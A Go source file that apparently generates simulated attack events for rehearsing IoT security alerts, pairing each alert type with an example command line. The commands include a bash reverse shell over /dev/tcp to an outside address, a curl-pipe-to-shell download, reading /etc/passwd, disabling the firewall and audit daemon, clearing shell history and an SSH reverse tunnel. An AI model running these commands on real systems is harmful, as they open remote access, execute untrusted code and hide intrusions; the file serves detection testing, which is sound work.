package attack

// command makes an attack of one process among ordinary ones.
func command(name, title, typ, describe string, u user, line string, executable ...string) Attack {
	return Attack{
		Name: name, Title: title, Type: typ, Detection: name, Describe: describe,
		Steps: []Step{{Title: "The device tells of the command: " + line, act: func(s *scene) {
			s.ordinary(2)
			s.process(u, line, executable...)
			s.ordinary(1)
		}}},
	}
}

// commands are the attacks that one process shows.
func commands() []Attack {
	return []Attack{
		command("crypto-miner", "Crypto coin miner", "IoT_CryptoMiner",
			"The harmless command that has always been the test of this alert: a shell prints the name of a miner.",
			root, `sh -c "echo cpuminer-multi"`, "/bin/sh"),
		command("reverse-shell", "Reverse shell", "IoT_ReverseShell",
			"A shell's input and output are joined to a connection to an address outside.",
			pump, `bash -c "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"`, "/usr/bin/bash"),
		command("web-shell", "Web shell", "IoT_WebShell",
			"The web server's user looks around, as somebody does who runs commands through a script in the web server.",
			web, `sh -c "whoami; uname -a; cat /etc/passwd"`, "/bin/sh"),
		command("disabled-firewall", "Firewall disabled", "IoT_DisableFirewall",
			"The firewall is switched off.",
			root, "/usr/bin/python3 /usr/sbin/ufw --force disable", "/usr/bin/python3.11"),
		command("disabled-audit", "Audit log disabled", "IoT_DisableAuditdLogging",
			"The audit daemon is stopped and the kernel told not to audit.",
			root, `sh -c "systemctl stop auditd; auditctl -e 0"`, "/bin/sh"),
		command("port-forwarding", "Port forwarding", "IoT_PortForwarding",
			"A tunnel opens the device's SSH port to somebody outside.",
			pump, "ssh -f -N -R 2222:localhost:22 tunnel@203.0.113.7"),
		command("download-then-run", "Download followed by run", "IoT_DownloadFileThenRun",
			"A script is downloaded into a shell that runs it at once.",
			root, `sh -c "curl -fsSL http://203.0.113.7/install.sh | sh"`, "/bin/sh"),
		command("history-cleared", "Shell history cleared", "IoT_ClearHistoryFile",
			"The history of the shell is emptied and its file removed.",
			pump, `bash -c "history -c; rm -f /home/pump/.bash_history"`, "/usr/bin/bash"),
		command("malicious-download", "Download from a malicious source", "IoT_PossibleMalware",
			"Something is downloaded from a domain of the list of malicious domains that comes for rehearsals.",
			root, "wget -q https://cdn.malware.test/agent -O /var/tmp/agent"),
		maliciousFile(),
		downloadSequence(),
	}
}

// rehearsalSHA1 is on the list of malicious files that comes for rehearsals.
const rehearsalSHA1 = "6d495ecf9cabaf72a1421e65f89ad15d7b5e6c94"
